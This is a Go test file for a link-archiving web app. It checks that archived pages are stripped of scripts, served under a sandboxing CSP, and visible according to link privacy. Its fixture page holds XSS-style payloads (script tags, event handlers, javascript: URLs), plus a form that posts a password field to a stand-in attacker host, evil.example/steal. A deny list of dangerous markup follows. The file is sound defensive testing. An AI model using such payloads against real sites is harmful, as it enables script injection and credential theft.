@@ -0,0 +1,197 @@
+package main
+
+import (
+	"context"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+// A page trying everything it shouldn't get away with in an archived copy
+const hostilePage = `<!DOCTYPE html>
+<html><head><title>Gophers</title>
+<script>alert("head")</script>
+<meta http-equiv="refresh" content="0; url=https://evil.example/">
+<base href="/">
+<style>body { background: url('javascript:alert("css")') }</style>
+</head>
+<body onload="alert('body')">
+<nav><a href="/">Home</a></nav>
+<article>
+<h1 onclick="alert('h1')" style="color: red">All about gophers</h1>
+<p style="position: fixed; top: 0">Gophers dig <a href="javascript:alert('link')">tunnels</a>
+and <a href="/burrows" onmouseover="alert('hover')" target="_top">burrows</a>.</p>
+<img src="/gopher.png" alt="A gopher" onerror="alert('img')" srcset="/big.png 2x">
+<img src="javascript:alert('src')">
+<iframe src="https://evil.example/frame"></iframe>
+<object data="/movie.swf"></object><embed src="/movie.swf">
+<svg><script>alert("svg")</script></svg>
+<form action="https://evil.example/steal"><input name="password" onfocus="alert('input')"></form>
+<noscript>Enable scripts</noscript>
+</article>
+</body></html>`
+
+func TestArchiveSanitizes(t *testing.T) {
+	png := "\x89PNG\r\n\x1a\n" + strings.Repeat("\x00", 16)
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/gopher.png":
+			w.Header().Set("Content-Type", "image/png")
+			io.WriteString(w, png)
+		default:
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			io.WriteString(w, hostilePage)
+		}
+	}))
+	defer server.Close()
+
+	archiver := NewArchiver(newTestOutboundClient(t, "127.0.0.1", 5), 1<<20)
+	page, err := archiver.Archive(context.Background(), server.URL+"/article")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// Nothing in either copy can run or load anything
+	for name, copy := range map[string]string{"readable": page.Readable, "full page": page.FullPage} {
+		lower := strings.ToLower(copy)
+		for _, bad := range []string{
+			"<script", "alert(", "javascript:", "onload", "onclick", "onmouseover", "onerror", "onfocus",
+			"<iframe", "<object", "<embed", "<base", "http-equiv", "evil.example", "srcset", "<noscript",
+		} {
+			if strings.Contains(lower, bad) {
+				t.Errorf("the %s copy still has %q:\n%s", name, bad, copy)
+			}
+		}
+	}
+
+	// The readable copy keeps no styles or forms at all, only the content
+	for _, bad := range []string{"style", "<form", "<input", "<svg", "<nav", "target="} {
+		if strings.Contains(page.Readable, bad) {
+			t.Errorf("the readable copy still has %q:\n%s", bad, page.Readable)
+		}
+	}
+	for _, want := range []string{
+		"<h1>All about gophers</h1>",
+		`<a href="` + server.URL + `/burrows">burrows</a>`,
+		`<a>tunnels</a>`,
+		`<img src="data:image/png;base64,`,
+	} {
+		if !strings.Contains(page.Readable, want) {
+			t.Errorf("the readable copy is missing %q:\n%s", want, page.Readable)
+		}
+	}
+	if !strings.HasPrefix(page.Text, "All about gophers\nGophers dig tunnels and burrows") || strings.Contains(page.Text, "alert") {
+		t.Errorf("text = %q", page.Text)
+	}
+
+	// The full page keeps its looks, minus anything the styles could load
+	for _, want := range []string{`style="color: red"`, `url("")`, `<img src="data:image/png;base64,`} {
+		if !strings.Contains(page.FullPage, want) {
+			t.Errorf("the full page is missing %q:\n%s", want, page.FullPage)
+		}
+	}
+}
+
+// Archived pages are someone else's HTML, every way of looking at one gets
+// the sandbox
+func TestArchiveCSP(t *testing.T) {
+	app, server := newTestApp(t)
+	browser := newTestBrowser(t, server)
+	browser.get("/register")
+	browser.post("/register", url.Values{
+		"username": {"alice"}, "password": {"correct horse"}, "email": {"alice@example.com"},
+	})
+	alice, err := app.store.GetUserByUsername("alice")
+	if err != nil {
+		t.Fatal(err)
+	}
+	link := createTestLink(t, app.store, Link{URL: "https://go.dev/", Title: "Go", UserID: alice.ID})
+	page := &ArchivedPage{LinkID: link.ID, Title: "Go", Readable: "<p>Go</p>", Text: "Go", FullPage: "<html><body>Go</body></html>", CreatedAt: time.Now()}
+	if err := app.store.CreateArchivedPage(page); err != nil {
+		t.Fatal(err)
+	}
+
+	id := strconv.Itoa(page.ID)
+	for path, wantCode := range map[string]int{
+		"/archive/" + id:               http.StatusOK,
+		"/archive/" + id + "/full":     http.StatusOK,
+		"/archive/" + id + "/text":     http.StatusOK,
+		"/archive/999":                 http.StatusNotFound,
+		"/archive/" + id + "1234/full": http.StatusNotFound,
+	} {
+		resp, err := browser.client.Get(server.URL + path)
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		if resp.StatusCode != wantCode {
+			t.Errorf("GET %s: %d, want %d", path, resp.StatusCode, wantCode)
+		}
+		if got := resp.Header.Get("Content-Security-Policy"); got != archiveCSP {
+			t.Errorf("GET %s: Content-Security-Policy = %q, want archiveCSP", path, got)
+		}
+		if got := resp.Header.Get("X-Content-Type-Options"); got != "nosniff" {
+			t.Errorf("GET %s: X-Content-Type-Options = %q", path, got)
+		}
+	}
+
+	// The rest of the site isn't sandboxed, its own scripts have to run
+	resp, err := browser.client.Get(server.URL + "/dashboard")
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if got := resp.Header.Get("Content-Security-Policy"); got == archiveCSP {
+		t.Error("the dashboard is served with archiveCSP")
+	}
+}
+
+// Archived copies are as visible as their links, logged in or not
+func TestArchiveVisibility(t *testing.T) {
+	app, server := newTestApp(t)
+	alice := createTestUser(t, app.store, "alice")
+	paths := make(map[string]string)
+	for _, visibility := range []string{VisibilityPublic, VisibilityUnlisted, VisibilityPrivate} {
+		link := createTestLink(t, app.store, Link{URL: "https://go.dev/" + visibility, Title: visibility, UserID: alice.ID, Visibility: visibility})
+		page := &ArchivedPage{LinkID: link.ID, Readable: "<p>Go</p>", Text: "Go", FullPage: "<p>Go</p>", CreatedAt: time.Now()}
+		if err := app.store.CreateArchivedPage(page); err != nil {
+			t.Fatal(err)
+		}
+		paths[visibility] = "/archive/" + strconv.Itoa(page.ID)
+	}
+
+	anonymous := newTestBrowser(t, server)
+	bob := newTestBrowser(t, server)
+	bob.get("/register")
+	bob.post("/register", url.Values{
+		"username": {"bob"}, "password": {"correct horse"}, "email": {"bob@example.com"},
+	})
+	for name, browser := range map[string]*testBrowser{"anonymous": anonymous, "bob": bob} {
+		for visibility, want := range map[string]int{
+			VisibilityPublic:   http.StatusOK,
+			VisibilityUnlisted: http.StatusOK,
+			VisibilityPrivate:  http.StatusNotFound,
+		} {
+			for _, suffix := range []string{"", "/full", "/text"} {
+				if code, _ := browser.get(paths[visibility] + suffix); code != want {
+					t.Errorf("%s: GET the %s link's copy%s: %d, want %d", name, visibility, suffix, code, want)
+				}
+			}
+		}
+	}
+
+	// Looking at a public copy doesn't start a session
+	resp, err := http.Get(server.URL + paths[VisibilityPublic])
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if len(resp.Cookies()) > 0 {
+		t.Error("an anonymous visit to an archived copy set a cookie")
+	}
+}